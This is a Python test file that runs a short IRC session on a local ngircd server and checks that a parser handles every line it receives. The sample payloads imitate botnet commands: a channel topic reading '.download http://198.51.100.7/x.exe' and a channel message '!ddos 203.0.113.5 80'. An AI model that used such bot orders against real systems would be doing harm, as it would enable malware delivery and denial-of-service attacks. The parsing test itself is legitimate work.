"""The IRC line parser against a real server: every line ngircd sends in a short session parses,
and parses to what the session expects.

A private ngircd (Debian package ngircd) listens on 127.0.0.1 with its own config in a temp
dir. Two clients register; alice joins #cc, sets a key and a topic; bob joins with the key (and
gets the topic as 332); alice talks in the channel and sends bob a CTCP VERSION, which bob
answers by NOTICE; then alice sends a line over 512 bytes, which ngircd answers by closing her
connection. Every line either client received goes through tests/tools/ircparse (our parser,
one JSON object a line), and each must parse, agree with a small independent split of the
RFC 2812 grammar written here, and the lines the session caused must say what they should.
"""
import json
import os
import shutil
import socket
import subprocess
import tempfile
import time
import unittest

from mxtest import TOOLS, free_port, wait_until

NGIRCD = shutil.which("ngircd") or "/usr/sbin/ngircd"
IRCPARSE = os.path.join(TOOLS, "ircparse")
TOPIC = ".download http://198.51.100.7/x.exe"
ORDER = "!ddos 203.0.113.5 80 \u00e9t\u00e9"  # a Latin-1 byte or two: servers pass bytes


class Client:
    """One IRC connection that keeps every byte the server sent."""

    def __init__(self, port, nick):
        self.nick = nick
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.sock.setblocking(False)
        self.data = b""
        self.closed = False

    def send(self, line):
        self.sock.setblocking(True)
        self.sock.sendall(line.encode("latin-1") + b"\r\n")
        self.sock.setblocking(False)

    def pump(self):
        try:
            while True:
                chunk = self.sock.recv(65536)
                if not chunk:
                    self.closed = True
                    return
                self.data += chunk
        except BlockingIOError:
            pass
        except ConnectionResetError:
            self.closed = True

    def lines(self):
        return [l + b"\n" for l in self.data.split(b"\n") if l]

    def wait_for(self, needle, timeout=15):
        needle = needle.encode("latin-1")

        def seen():
            self.pump()
            return needle in self.data

        wait_until(seen, timeout=timeout, what="%s to receive %r" % (self.nick, needle))

    def close(self):
        self.sock.close()


def reference_split(line):
    """RFC 2812 2.3.1 by hand, independent of the C parser: (prefix, command, params)."""
    s = line.rstrip(b"\n").rstrip(b"\r")
    if s.startswith(b"@"):
        s = s.split(b" ", 1)[1].lstrip(b" ")
    prefix = b""
    if s.startswith(b":"):
        prefix, s = s[1:].split(b" ", 1)
        s = s.lstrip(b" ")
    command, _, rest = s.partition(b" ")
    params = []
    while rest:
        rest = rest.lstrip(b" ")
        if not rest:
            break
        if rest.startswith(b":") or len(params) == 14:
            params.append(rest[1:] if rest.startswith(b":") else rest)
            break
        word, _, rest = rest.partition(b" ")
        params.append(word)
    dec = lambda b: b.decode("latin-1")
    return dec(prefix), dec(command), [dec(p) for p in params]


class IrcAgainstNgircd(unittest.TestCase):
    def setUp(self):
        self.assertTrue(os.access(NGIRCD, os.X_OK), "ngircd is not installed (scripts/install-deps)")
        self.assertTrue(os.access(IRCPARSE, os.X_OK), "build the tools: make tools")
        self.dir = tempfile.mkdtemp(prefix="mxtest-irc-")
        self.port = free_port()
        conf = os.path.join(self.dir, "ngircd.conf")
        with open(conf, "w") as f:
            f.write(
                "[Global]\n"
                "\tName = irc.mxtest.example\n"
                "\tInfo = mxtower test server\n"
                "\tListen = 127.0.0.1\n"
                "\tPorts = %d\n"
                "\tPidFile = %s/ngircd.pid\n"
                "\tMotdPhrase = \"mxtest\"\n"
                "\tServerUID = %d\n"
                "\tServerGID = %d\n"
                "[Limits]\n"
                "\tPingTimeout = 120\n"
                "\tPongTimeout = 20\n"
                "\tMaxConnectionsIP = 0\n"
                "[Options]\n"
                "\tDNS = no\n"
                "\tIdent = no\n"
                "\tPAM = no\n"
                "\tIncludeDir = %s\n" % (self.port, self.dir, os.getuid(), os.getgid(), self.dir))
        self.log = open(os.path.join(self.dir, "ngircd.log"), "w")
        self.proc = subprocess.Popen([NGIRCD, "-n", "-f", conf], stdout=self.log, stderr=subprocess.STDOUT)
        self.clients = []

        def listening():
            try:
                socket.create_connection(("127.0.0.1", self.port), timeout=1).close()
                return True
            except OSError:
                return False

        wait_until(listening, timeout=15, what="ngircd to listen")

    def tearDown(self):
        for c in self.clients:
            c.close()
        self.proc.terminate()
        try:
            self.proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
        self.log.close()
        shutil.rmtree(self.dir, ignore_errors=True)

    def client(self, nick):
        c = Client(self.port, nick)
        self.clients.append(c)
        c.send("NICK " + nick)
        c.send("USER %s 0 * :%s the tester" % (nick, nick))
        c.wait_for(" 001 %s " % nick)
        c.wait_for(" 376 %s " % nick)  # end of MOTD: registration done
        return c

    def parse(self, lines):
        p = subprocess.run([IRCPARSE], input=b"".join(lines), stdout=subprocess.PIPE, timeout=30, check=True)
        out = [json.loads(l) for l in p.stdout.decode("ascii").splitlines()]
        self.assertEqual(len(out), len(lines))
        return out

    def test_session_lines_parse_as_the_session_says(self):
        alice = self.client("alice")
        bob = self.client("bob")
        alice.send("JOIN #cc")
        alice.wait_for(" 366 alice #cc ")
        alice.send("MODE #cc +k sekrit")
        alice.wait_for("MODE #cc +k sekrit")
        alice.send("TOPIC #cc :" + TOPIC)
        alice.wait_for("TOPIC #cc :")
        bob.send("JOIN #cc,&nochan sekrit")
        bob.wait_for(" 366 bob #cc ")
        alice.wait_for("JOIN")
        alice.send("PRIVMSG #cc :" + ORDER)
        bob.wait_for("PRIVMSG #cc :")
        alice.send("PRIVMSG bob :\x01VERSION\x01")
        bob.wait_for("\x01VERSION\x01")
        bob.send("NOTICE alice :\x01VERSION mxbot 1.0\x01")
        alice.wait_for("\x01VERSION mxbot")
        oversized = "PRIVMSG #cc :" + "x" * 600
        alice.send(oversized)
        bob.wait_for("QUIT")
        wait_until(lambda: (alice.pump(), alice.closed)[1], timeout=15, what="ngircd to close alice")
        bob.pump()

        for c in (alice, bob):
            lines = c.lines()
            self.assertGreater(len(lines), 10, c.data)
            parsed = self.parse(lines)
            for raw, got in zip(lines, parsed):
                with self.subTest(client=c.nick, line=raw):
                    self.assertTrue(got["ok"], got)
                    prefix, command, params = reference_split(raw)
                    self.assertEqual(got["prefix"], prefix)
                    self.assertEqual(got["command"], command)
                    self.assertEqual(got["params"], params)
                    if command.isdigit():
                        self.assertEqual(got["numeric"], int(command))
                    else:
                        self.assertEqual(got["numeric"], -1)
            setattr(self, c.nick + "_got", parsed)

        a, b = self.alice_got, self.bob_got
        welcome = [m for m in a if m["numeric"] == 1]
        self.assertEqual(len(welcome), 1, a)
        self.assertTrue(welcome[0]["server"])
        self.assertEqual(welcome[0]["nick"], "irc.mxtest.example")
        self.assertEqual(welcome[0]["params"][0], "alice")

        # alice sees bob join #cc (not &nochan, the second channel of his JOIN list: she is not in it).
        joins = [m for m in a if m["command"] == "JOIN" and m["nick"] == "bob"]
        self.assertEqual(len(joins), 1, a)
        self.assertEqual(joins[0]["join"][0]["channel"], "#cc")
        self.assertTrue(joins[0]["join"][0]["valid"])
        self.assertFalse(joins[0]["server"])
        self.assertTrue(joins[0]["user"].endswith("bob") and joins[0]["host"], joins[0])

        # The topic: alice's change echoed to her, and RPL_TOPIC (332) to bob on joining.
        self.assertIn({"channel": "#cc", "text": TOPIC},
                      [m["topic"] for m in a if m["command"] == "TOPIC"])
        rpl = [m for m in b if m["numeric"] == 332]
        self.assertEqual([m["topic"] for m in rpl], [{"channel": "#cc", "text": TOPIC}])

        # The order in the channel, bytes as sent.
        pm = [m for m in b if m["command"] == "PRIVMSG" and "ctcp" not in m]
        self.assertEqual(len(pm), 1, b)
        self.assertEqual(pm[0]["nick"], "alice")
        self.assertEqual(pm[0]["privmsg"], {"target": "#cc", "text": ORDER})

        # CTCP both ways.
        q = [m for m in b if m.get("ctcp")]
        self.assertEqual([m["ctcp"] for m in q], [{"verb": "VERSION", "arg": ""}])
        self.assertEqual(q[0]["privmsg"]["target"], "bob")
        r = [m for m in a if m["command"] == "NOTICE" and m.get("ctcp")]
        self.assertEqual([m["ctcp"] for m in r], [{"verb": "VERSION", "arg": "mxbot 1.0"}])

        # The oversized line: ngircd closed alice (ERROR to her, QUIT to bob), and our parser
        # refuses the line itself for its length.
        self.assertTrue(any(m["command"] == "ERROR" for m in a), a)
        quits = [m for m in b if m["command"] == "QUIT"]
        self.assertEqual([m["nick"] for m in quits], ["alice"])
        big = self.parse([(oversized + "\r\n").encode("latin-1")])[0]
        self.assertEqual(big, {"ok": False, "error": "EMSGSIZE", "len": len(oversized) + 2})


if __name__ == "__main__":
    unittest.main()
